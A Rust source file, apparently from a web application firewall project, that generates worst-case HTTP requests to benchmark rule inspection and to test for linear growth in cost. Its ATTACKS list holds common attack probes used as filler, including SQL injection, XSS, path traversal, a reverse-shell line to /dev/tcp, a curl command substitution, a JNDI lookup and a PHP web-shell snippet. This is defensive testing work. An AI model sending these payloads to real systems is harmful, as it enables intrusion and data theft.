//! Requests made to cost as much as possible, of any size: what the benchmark measures, and what the tests hold to linear
//! growth.

use portcullis::input::{BodyState, RequestBuf};

/// One way in which a request can grow.
pub(crate) struct Dimension {
    pub(crate) name: &'static str,
    /// What the size counts.
    pub(crate) unit: &'static str,
    /// The largest size that the default limits, and what Envoy passes on, allow.
    pub(crate) most: usize,
    /// So many times the work is allowed for twice the size.
    pub(crate) growth: f64,
    pub(crate) make: fn(usize) -> RequestBuf,
}

/// The body limit.
const BODY: usize = 131_072;
/// Of all headers together, in Envoy.
const HEADERS: usize = 60 * 1024;

/// Twice, and something for what does not grow in step.
const LINEAR: f64 = 2.3;

/// Values of one argument in a JSON body, so that few bytes need an escape.
pub(crate) const VALUES: [Dimension; 17] = [
    value("`a`", |size| value_of("a", size)),
    value("`../`", |size| value_of("../", size)),
    value("`select `", |size| value_of("select ", size)),
    value("`<script `", |size| value_of("<script ", size)),
    value("`/etc/passwd `", |size| value_of("/etc/passwd ", size)),
    value("`~+/`", |size| value_of("~+/", size)),
    value("`<`", |size| value_of("<", size)),
    value("`~`", |size| value_of("~", size)),
    value("blanks", |size| value_of(" ", size)),
    value("quotes", |size| value_of("'", size)),
    value("``not`x` ``", |size| value_of("not`x` ", size)),
    value("shell punctuation", |size| json(&random(size, b"$(){}[]|&;<>`'\"\\ !~+/*?^"))),
    // Many of them need an escape of six bytes.
    part("random bytes", "bytes", BODY / 2, |size| json(&random(size, &(0..=u8::MAX).collect::<Vec<u8>>()))),
    value("random printable", |size| json(&random(size, &(b' '..=b'~').collect::<Vec<u8>>()))),
    value("word soup", |size| json(&words(size))),
    // The worst there is, so as large as the body limit allows; some bytes need an escape.
    part("attacks in turn", "bytes", BODY - BODY / 64, |size| json(&repeat(ATTACKS.join(" ").as_bytes(), size))),
    value("escapes", |size| value_of("%u0027&#x27;%2527+/*x*/ ", size)),
];

/// Everything else that a client can make more of.
pub(crate) const PARTS: [Dimension; 21] = [
    part("arguments", "number", 999, |size| form(&numbered(size, "&", |number| format!("a{number}=xy,+xy'+or")))),
    part("arguments of noise", "number", 999, |size| {
        form(&numbered(size, "&", |number| format!("a{number}={}", escape(&noise(number, 20)))))
    }),
    part("argument names", "number", 999, |size| form(&numbered(size, "&", |number| format!("a'{number}%3C[x]=1")))),
    part("one argument name", "bytes", BODY / 4, |size| form(&[escape(&words(size)).as_str(), "=1"].concat())),
    part("query value", "bytes", HEADERS / 3, |size| get(&format!("/?q={}", escape(&printable(size))), &[])),
    part("path", "bytes", HEADERS, |size| get(&text(&repeat(b"/a/../b.php;x", size)), &[])),
    part("headers", "number", 900, |size| {
        let headers: Vec<_> = (0..size).map(|number| (format!("x-{number}"), "value/1;a=b".to_owned())).collect();
        get("/", &headers)
    }),
    part("header value", "bytes", HEADERS, |size| get("/", &[("user-agent".into(), text(&printable(size)))])),
    part("referer", "bytes", HEADERS, |size| get("/", &[("referer".into(), text(&printable(size)))])),
    part("cookies", "number", 3_000, |size| {
        get("/", &[("cookie".into(), numbered(size, "; ", |number| format!("c{number}={}", cookie(number))))])
    }),
    part("cookie value", "bytes", HEADERS, |size| {
        get("/", &[("cookie".into(), text(&[b"c=", &*words(size)].concat()))])
    }),
    // Each level has the names of those above in its own, so this grows with the square, up to the room that names have.
    Dimension {
        growth: 2.0 * LINEAR,
        ..part("JSON depth, arrays in objects", "levels", 256, |size| {
            let body = format!("{}1{}", "{\"a\":[".repeat(size / 2), "]}".repeat(size / 2));
            post("application/json", body.into_bytes())
        })
    },
    part("JSON depth", "levels", 512, |size| {
        post("application/json", format!("{}\"x' or\"{}", "{\"a\":".repeat(size), "}".repeat(size)).into_bytes())
    }),
    part("JSON width", "values", 999, |size| {
        post("application/json", format!("[{}]", numbered(size, ",", |_| "\"x' or\"".into())).into_bytes())
    }),
    part("JSON values below a long key", "number", 999, |size| {
        let value = format!("\"{}\"", text(&words(20)));
        let body = format!("{{\"{}\":[{}]}}", text(&words(90)), numbered(size, ",", |_| value.clone()));
        post("application/json", body.into_bytes())
    }),
    part("form of separators", "bytes", BODY, |size| form(&"&".repeat(size))),
    part("form of percent signs", "bytes", BODY, |size| form(&"%".repeat(size))),
    part("multipart parts", "number", 999, |size| multipart(&(0..size).map(field).collect::<String>())),
    part("multipart header lines", "bytes", 30 * 4_000, |size| {
        let lines = numbered(30, "\r\n", |number| format!("X-{number}: {}", text(&words(size / 30))));
        multipart(&format!("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n{lines}\r\n\r\nx\r\n"))
    }),
    part("XML elements", "number", 4_000, |size| {
        post("text/xml", format!("<r>{}</r>", numbered(size, "", element)).into_bytes())
    }),
    part("XML depth", "levels", 8_000, |size| {
        post("text/xml", format!("{}x{}", "<a>".repeat(size), "</a>".repeat(size)).into_bytes())
    }),
];

/// What rules look for, one after the other.
const ATTACKS: [&str; 42] = [
    "union all select 1 from information_schema.tables",
    "' or 1=1 -- -",
    "sleep(5)",
    "benchmark(1,md5(1))",
    "waitfor delay '0:0:5'",
    "xp_cmdshell",
    "load_file(0x2f)",
    "into outfile",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg/onload=confirm`1`>",
    "document.cookie",
    "<iframe src=//x>",
    "eval(atob('x'))",
    "../../etc/passwd",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "php://filter/convert.base64-encode",
    "data://text/plain",
    "http://127.0.0.1/",
    "file:///etc/shadow",
    ";cat /etc/passwd",
    "|id",
    "`uname -a`",
    "$(curl http://x)",
    "& ping -c 1 x",
    "bash -i >& /dev/tcp/x/1",
    "() { :;};",
    "<?php system($_GET[1]);",
    "O:8:\"stdClass\":0:{}",
    "${jndi:ldap://x}",
    "java.lang.Runtime",
    "@@version",
    "{{7*7}}",
    "<!--#exec cmd=\"x\"-->",
    "%0d%0aSet-Cookie:x",
    "*)(uid=*))(|(uid=*",
    "$where: this.a",
    "__proto__[x]",
    "require('child_process')",
    "process.env",
];

const fn value(name: &'static str, make: fn(usize) -> RequestBuf) -> Dimension {
    Dimension { name, unit: "bytes", most: BODY * 3 / 4, growth: LINEAR, make }
}

const fn part(name: &'static str, unit: &'static str, most: usize, make: fn(usize) -> RequestBuf) -> Dimension {
    Dimension { name, unit, most, growth: LINEAR, make }
}

fn repeat(piece: &[u8], size: usize) -> Vec<u8> {
    piece.iter().copied().cycle().take(size).collect()
}

fn value_of(piece: &str, size: usize) -> RequestBuf {
    json(&repeat(piece.as_bytes(), size))
}

/// Printable bytes without order, one of 60 texts: of so many that more of them match no further rules.
fn noise(number: usize, size: usize) -> Vec<u8> {
    let number = number % 60;
    let mixed = |place: usize| {
        let seed = ((number << 8 | place) as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        (seed ^ seed >> 31).wrapping_mul(0xbf58_476d_1ce4_e5b9) >> 40
    };
    (0..size).map(|place| b' ' + (mixed(place) % 95) as u8).collect()
}

fn cookie(number: usize) -> String {
    text(&noise(number, 12)).replace([';', ' ', '"'], "~")
}

fn element(number: usize) -> String {
    format!("<a b=\"{}\">y</a>", text(&noise(number, 12)).replace(['<', '&', '"'], "~"))
}

/// Of random text; longer texts repeat it.
const BLOCK: usize = 4_096;

/// Bytes of the alphabet, in blocks that repeat, so that a longer value holds no other text than a shorter one.
fn random(size: usize, alphabet: &[u8]) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let block: Vec<u8> = (0..BLOCK).map(|_| alphabet[(next() >> 11) as usize % alphabet.len()]).collect();
    repeat(&block, size)
}

fn printable(size: usize) -> Vec<u8> {
    random(size, &(b' '..=b'~').collect::<Vec<u8>>())
}

fn words(size: usize) -> Vec<u8> {
    const WORDS: [&str; 12] =
        ["union", "select", "cat", "etc", "passwd", "or", "and", "script", "alert", "on", "from", "where"];
    let order = random(600, &(0..WORDS.len() as u8).collect::<Vec<u8>>());
    let text: Vec<&str> = order.iter().map(|word| WORDS[usize::from(*word)]).collect();
    repeat(text.join(" ").as_bytes(), size)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// With everything percent-encoded that has a meaning in a form.
fn escape(bytes: &[u8]) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    bytes.iter().map(|byte| if plain(*byte) { char::from(*byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

fn numbered(count: usize, between: &str, make: impl Fn(usize) -> String) -> String {
    (0..count).map(make).collect::<Vec<_>>().join(between)
}

fn field(number: usize) -> String {
    format!("--b\r\nContent-Disposition: form-data; name=\"a{number}\"\r\n\r\nx' or\r\n")
}

fn form(body: &str) -> RequestBuf {
    post("application/x-www-form-urlencoded", body.as_bytes().to_vec())
}

fn multipart(parts: &str) -> RequestBuf {
    post("multipart/form-data; boundary=b", format!("{parts}--b--\r\n").into_bytes())
}

fn json(value: &[u8]) -> RequestBuf {
    let mut body = b"{\"q\":\"".to_vec();
    for byte in value {
        match byte {
            b'"' | b'\\' => body.extend([b'\\', *byte]),
            0..=0x1f => body.extend(format!("\\u{byte:04x}").bytes()),
            _ => body.push(*byte),
        }
    }
    body.extend(b"\"}");
    post("application/json", body)
}

fn get(target: &str, headers: &[(String, String)]) -> RequestBuf {
    let headers = headers.iter().map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()));
    let mut request = request("GET", target);
    request.headers.extend(headers);
    request
}

fn post(content_type: &str, body: Vec<u8>) -> RequestBuf {
    let mut request = request("POST", "/x");
    request.headers.push((b"content-type".to_vec(), content_type.as_bytes().to_vec()));
    request.headers.push((b"content-length".to_vec(), body.len().to_string().into_bytes()));
    request.body = body;
    request
}

fn request(method: &str, target: &str) -> RequestBuf {
    RequestBuf {
        id: String::new(),
        method: method.into(),
        target: target.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers: [("host", "shop.example"), ("accept", "*/*")].map(|(name, value)| (name.into(), value.into())).into(),
        body: Vec::new(),
        body_state: BodyState::Complete,
        remote_addr: "192.0.2.7".parse().ok(),
        remote_port: 1,
        server_addr: None,
        server_port: 443,
    }
}
